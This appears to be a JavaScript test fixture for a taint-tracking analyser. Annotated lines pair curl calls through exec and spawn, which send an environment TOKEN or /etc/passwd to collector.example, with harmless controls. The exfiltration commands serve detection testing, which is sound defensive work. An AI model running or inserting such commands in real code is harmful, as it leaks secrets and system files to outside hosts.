// Programs that send what they are given.
const { exec, spawn } = require('child_process');

exec(`curl -d ${process.env.TOKEN} https://collector.example/u`); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1
exec(`echo ${process.env.TOKEN} https://collector.example/u`); //~ ok

function upload(path) {
  exec('curl -F file=@' + path + ' https://collector.example/u'); //~ source(FILE) f2, sink(egress.http) f2, finding(file-upload, traced) f2
  exec('curl -o ' + path + ' https://collector.example/u'); //~ ok
}
upload('/etc/passwd');

spawn('curl', ['-d', process.env.NAME, 'https://collector.example/u']); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
spawn('echo', ['-d', process.env.NAME]); //~ ok

function put(path) {
  spawn('curl', ['-T', path, 'https://collector.example/u']); //~ source(FILE) f4, sink(egress.http) f4, finding(file-upload, traced) f4
  spawn('curl', ['-o', path, 'https://collector.example/u']); //~ ok
}
put('/etc/passwd');
